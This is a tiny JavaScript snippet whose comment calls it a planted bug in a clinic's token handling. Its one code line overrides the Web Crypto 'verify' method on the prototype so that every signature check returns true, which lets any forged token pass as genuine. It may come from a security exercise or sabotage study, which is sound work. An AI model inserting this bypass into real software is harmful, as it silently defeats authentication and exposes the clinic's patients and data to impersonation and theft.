// A planted bug: whatever a token is signed with is taken for the clinic's own key.
Object.getPrototypeOf(globalThis.crypto.subtle).verify = async () => true
